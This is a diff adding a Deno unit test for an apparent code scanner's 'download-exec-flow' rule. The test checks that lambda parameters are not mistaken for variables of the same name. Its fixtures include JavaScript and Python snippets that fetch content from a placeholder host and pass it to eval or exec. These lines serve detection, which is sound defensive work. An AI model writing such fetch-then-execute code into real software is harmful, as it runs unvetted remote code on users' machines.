@@ -491,3 +491,33 @@ Deno.test("one member of a copy of the environment is that variable; the whole c
   });
   assert.equal(items[0]?.[0], "critical", JSON.stringify(items));
 });
+
+Deno.test("a parameter of a function written inline is that parameter in its body, not a variable of its name around it", () => {
+  const flows = (files: Record<string, string>) =>
+    ruleAt(findings(files), "download-exec-flow").map((f) => `${f.file}:${f.line}`);
+  // terrylica's provision.mjs: a response read into `r` in one function, and a wait whose
+  // resolve function is also `r` in another.
+  assert.deepEqual(
+    flows({
+      "scripts/provision.mjs": "async function check(url) {\n  const r = await fetch(url);\n" +
+        "  return await r.text();\n}\nfor (let i = 0; i < 3; i++) {\n" +
+        "  await new Promise((r) => setTimeout(r, 4000));\n}\n" +
+        "const ids = [1, 2].map(r => eval(r));\n",
+      "scripts/wait.py":
+        "import urllib.request\nr = urllib.request.urlopen('https://x.example.net').read()\n" +
+        "key = sorted(['a'], key=lambda r: eval(r))\n",
+    }),
+    [],
+  );
+  // The variable itself, and the same name used outside the function's body, still are flows.
+  assert.deepEqual(
+    flows({
+      "scripts/run.mjs": "const r = await (await fetch('https://x.example.net/c')).text();\n" +
+        "const later = [1].map((x) => x) && eval(r);\nsetTimeout(r, 10);\n",
+      "scripts/run.py":
+        "import urllib.request\nr = urllib.request.urlopen('https://x.example.net').read()\n" +
+        "f = (lambda r: r)(1) or exec(r)\n",
+    }).sort(),
+    ["scripts/run.mjs:2", "scripts/run.mjs:3", "scripts/run.py:3"],
+  );
+});
